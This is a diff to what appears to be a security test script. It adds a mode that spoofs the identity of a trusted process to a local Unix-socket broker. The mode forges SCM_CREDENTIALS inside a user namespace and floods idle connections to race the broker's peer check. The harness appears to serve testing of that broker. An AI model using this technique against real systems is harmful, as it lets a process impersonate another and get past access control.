@@ -14,6 +14,13 @@ anyway, and prints the last response it read as one JSON line
               parent execs PROGRAM; the child sends and reads
   exec-late   connect; wait until the broker has looked; send the request;
               fork; the parent execs PROGRAM; the child reads
+  userns-forge  run as `unshare -Urp --fork python3 unix_exec_attack.py ...`:
+              in a user and pid namespace of its own, a child connects and
+              execs PROGRAM; this script sends the request on the same
+              connection with SCM_CREDENTIALS naming the child's pid (which
+              its namespace lets it claim), while idle connections keep the
+              broker from looking at the child until after its exec; tried
+              up to 5 times, the last answer (or the first 200) printed
 """
 import array
 import json
@@ -115,5 +122,41 @@ elif mode == "pass-fd":
     b.close()
     a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
     become_the_agent()
+elif mode == "userns-forge":
+    import struct
+    s.close()
+    best = {"status": 0}
+    for _ in range(5):
+        r, w = os.pipe()
+        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        child = os.fork()
+        if child == 0:
+            os.read(r, 1)
+            conn.connect(path)
+            os.execv(program, [program, "20"])
+        burst = []
+        for _ in range(60):
+            b = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            try:
+                b.connect(path)
+            except OSError:
+                break
+            burst.append(b)
+        os.write(w, b"x")
+        time.sleep(0.3)
+        creds = struct.pack("iII", child, os.getuid(), os.getgid())
+        try:
+            conn.sendmsg([REQ], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, creds)])
+            best = read_answer(conn)
+        except OSError as e:
+            best = {"status": 0, "body": str(e)}
+        for b in burst:
+            b.close()
+        os.kill(child, 9)
+        os.waitpid(child, 0)
+        if best.get("status") == 200:
+            break
+    report(best)
+    sys.exit(0)
 else:
     sys.exit("unknown mode " + mode)
